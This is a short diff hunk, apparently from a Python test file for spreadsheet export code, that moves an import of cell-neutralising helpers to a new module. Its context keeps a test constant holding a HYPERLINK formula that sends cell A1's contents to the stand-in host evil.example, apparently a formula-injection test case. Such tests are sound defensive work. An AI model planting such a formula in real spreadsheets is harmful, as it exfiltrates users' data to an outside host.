@@ -13,7 +13,7 @@ from openpyxl import load_workbook
 from sqlalchemy import Engine, text
 
 from service.api.app import create_app
-from service.export.cells import inert, inert_text, xml_text
+from service.cells import inert, inert_text, xml_text
 from tests import worlds
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
